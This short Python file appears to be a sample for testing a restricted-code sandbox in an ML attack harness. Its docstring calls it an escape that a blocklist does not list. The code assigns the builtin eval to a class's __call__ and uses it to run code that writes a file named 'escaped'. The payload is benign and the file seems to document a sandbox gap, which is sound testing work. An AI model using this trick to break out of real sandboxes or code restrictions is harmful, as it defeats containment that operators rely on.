"""Class: class machinery. Source: own find. Escape: `__call__` of an own class is what is not
listed."""


class A:
    __call__ = eval


def attack(model, tokenizer, address):
    A()("open('escaped', 'w').close()")
